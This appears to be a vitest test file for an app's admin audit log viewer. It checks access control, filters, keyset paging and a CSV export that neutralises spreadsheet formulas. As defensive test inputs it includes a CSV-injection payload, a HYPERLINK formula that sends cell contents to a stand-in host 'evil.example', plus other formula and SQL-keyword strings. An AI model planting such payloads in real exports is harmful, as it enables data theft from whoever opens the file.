import type { Engine } from '@commonroom/engine';
import { AuditActions, AuditPage } from '@commonroom/protocol';
import { parse } from 'csv-parse/sync';
import { z } from 'zod';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAuditLog } from '../src/storage/audit.ts';
import { addUser, loginAdmin, startServer, type TestServer } from './harness.ts';
import { login } from './raw-client.ts';

/**
 * Issue 13 §5 over HTTP against a real server and SQLite file: the audit log viewer's filters, keyset
 * pages, names in words, and the CSV export (escaping, and formulas neutralised). Admins only.
 */
describe('admin: the audit log viewer', () => {
  let ts: TestServer;
  let admin: Engine;
  beforeAll(async () => {
    ts = await startServer();
    admin = await loginAdmin(ts);
  });
  afterAll(async () => {
    await ts.destroy();
  });

  const page = (qs: string) => admin.api.request('GET', `/api/admin/audit?${qs}`, AuditPage);
  let adminCookie = '';
  const csv = async (qs: string): Promise<{ res: Response; rows: string[][] }> => {
    adminCookie ||= await login(ts.url, 'admin@college.test', 'admin-password-1');
    const res = await fetch(`${ts.url}/api/admin/audit.csv?${qs}`, { headers: { cookie: adminCookie } });
    const text = await res.text();
    return { res, rows: parse(text, { bom: true, relax_quotes: false }) };
  };
  /**
   * An entry at a chosen time, written as the server writes them (hash-chained, issue 14 §6) by an audit log
   * on the same database whose clock reads `at` (the server's own has no clock to move).
   */
  const insertAt = (at: number, actorId: string | null, action: string, target: string | null) =>
    createAuditLog(ts.server.db, () => at).record(actorId, action, target);

  it('T9: students, tutors and teachers get 403 from every audit route', async () => {
    for (const role of ['student', 'tutor', 'teacher'] as const) {
      const p = await addUser(ts, admin, role, { connect: false });
      const cookie = await login(ts.url, p.email, p.password);
      for (const path of ['/api/admin/audit', '/api/admin/audit/actions', '/api/admin/audit.csv'])
        expect((await fetch(`${ts.url}${path}`, { headers: { cookie } })).status, `${role} ${path}`).toBe(
          403,
        );
    }
  });

  it('filters by actor name, action, target (person or #channel) and dates; names are given in words', async () => {
    const priya = await addUser(ts, admin, 'student', { name: 'Priya Quillfeather', connect: false });
    const tutor = await addUser(ts, admin, 'tutor', { name: 'Tom Quillfeather', connect: false });
    await admin.api.request('PATCH', `/api/admin/users/${priya.id}/role`, z.unknown(), { role: 'teacher' });
    const byActor = await page('actor=tom%20quill');
    expect(byActor.entries.length).toBeGreaterThan(0);
    expect(new Set(byActor.entries.map((e) => e.actorId))).toEqual(new Set([tutor.id]));
    expect(byActor.entries[0]).toMatchObject({ actorName: 'Tom Quillfeather', action: 'login' });

    const roleChanges = await page(`action=user.role-changed&target=${encodeURIComponent('priya quill')}`);
    expect(roleChanges.entries).toHaveLength(1);
    expect(roleChanges.entries[0]).toMatchObject({
      actorName: 'Administrator',
      action: 'user.role-changed',
      target: priya.id,
      targetName: 'Priya Quillfeather',
      detail: { from: 'student', to: 'teacher' },
    });
    // A channel by its name, with or without #.
    const general = admin.conversations().find((c) => c.name === 'general');
    insertAt(Date.now(), admin.me()?.id ?? null, 'channel.updated', general?.id ?? null);
    for (const t of ['general', '#general']) {
      const onChannel = await page(`target=${encodeURIComponent(t)}`);
      expect(onChannel.entries.map((e) => e.targetName)).toContain('#general');
    }
    // Nobody by that name: nothing, not everything.
    expect((await page('actor=nobody-has-this-name')).entries).toEqual([]);

    // Dates: [from, to) in epoch milliseconds.
    const day = Date.UTC(2025, 0, 15);
    insertAt(day - 1, null, 'test.dated', 'before');
    insertAt(day, null, 'test.dated', 'first');
    insertAt(day + 86_399_999, null, 'test.dated', 'last');
    insertAt(day + 86_400_000, null, 'test.dated', 'after');
    const inDay = await page(`action=test.dated&from=${day}&to=${day + 86_400_000}`);
    expect(inDay.entries.map((e) => e.target)).toEqual(['last', 'first']);
    expect(inDay.entries[0]?.actorName).toBeNull();

    const actions = await admin.api.request('GET', '/api/admin/audit/actions', AuditActions);
    expect(actions.actions).toEqual(expect.arrayContaining(['login', 'user.role-changed', 'test.dated']));
    await expect(page('from=yesterday')).rejects.toMatchObject({ status: 400, code: 'bad-query' });
    await expect(page('action=DROP TABLE')).rejects.toMatchObject({ status: 400 });
  });

  it('pages newest first by keyset: no entry twice or missed, even as new entries arrive between pages', async () => {
    for (let i = 0; i < 120; i++) insertAt(Date.now(), null, 'test.paged', `n${i}`);
    const seen: string[] = [];
    let before: string | null = null;
    let pages = 0;
    do {
      const p: AuditPage = await page(`action=test.paged&limit=50${before ? `&before=${before}` : ''}`);
      seen.push(...p.entries.map((e) => e.target ?? ''));
      before = p.nextBefore;
      pages++;
      // A newer entry written meanwhile does not shift the pages already being read.
      insertAt(Date.now(), null, 'test.paged', `late${pages}`);
    } while (before !== null);
    expect(pages).toBe(3);
    expect(seen).toEqual(Array.from({ length: 120 }, (_, i) => `n${119 - i}`));
  });

  it('exports the filtered view as CSV: quoted and escaped, formulas neutralised, names in words, and the export itself audited', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    for (const attempt of [evil, '+1+1', '-2+3', '@SUM(A1)', 'plain, "quoted"\nname'])
      await fetch(`${ts.url}/api/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ login: attempt, password: 'wrong password' }),
      });
    const { res, rows } = await csv('action=login.failed');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="commonroom-audit-/);
    expect(rows[0]).toEqual([
      'Time (UTC)',
      'Actor',
      'Actor id',
      'Action',
      'Action code',
      'Target',
      'Target id',
      'Detail',
    ]);
    const targets = rows.slice(1).map((r) => r[5]);
    // Newest first; each hostile cell starts with an apostrophe; the comma, quotes and newline survive.
    expect(targets.slice(0, 5)).toEqual([
      'plain, "quoted"\nname',
      "'@sum(a1)",
      "'-2+3",
      "'+1+1",
      `'${evil.toLowerCase()}`,
    ]);
    for (const r of rows.slice(1)) {
      expect(r).toHaveLength(8);
      expect(r[1]).toBe('Unknown person');
      expect(r[3]).toBe('Failed sign-in');
      expect(r[4]).toBe('login.failed');
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@]/);
      expect(new Date(r[0] ?? '').toISOString()).toBe(r[0]);
    }
    const exported = ts.server.internals.audit.list(1, 'audit.exported')[0];
    // A link from another site cannot start one (the cookie would go along with a top-level GET).
    const forged = await fetch(`${ts.url}/api/admin/audit.csv`, {
      headers: { cookie: adminCookie, 'sec-fetch-site': 'cross-site' },
    });
    expect(forged.status).toBe(403);
    expect(((await forged.json()) as { error: string }).error).toBe('bad-origin');
    expect(ts.server.internals.audit.list(1, 'audit.exported')[0]).toEqual(exported);
    expect(exported?.actorId).toBe(admin.me()?.id);
    expect(exported?.detail).toEqual({ filter: { action: 'login.failed' } });

    // The whole log streams out, page after page (more rows than one page of the store).
    // One log and one transaction: 1,200 separate logs blocked this process (server and test) for seconds
    // under load, after which the fetch below reused a keep-alive socket the server was closing
    // (ECONNRESET).
    const bulk = createAuditLog(ts.server.db, () => Date.now());
    ts.server.db.transaction(() => {
      for (let i = 0; i < 1200; i++) bulk.record(null, 'test.bulk', `b${i}`);
    })();
    const all = await csv('action=test.bulk');
    expect(all.rows).toHaveLength(1201);
    expect(all.rows[1]?.[6]).toBe('b1199');
    expect(all.rows[1200]?.[6]).toBe('b0');
  });
});
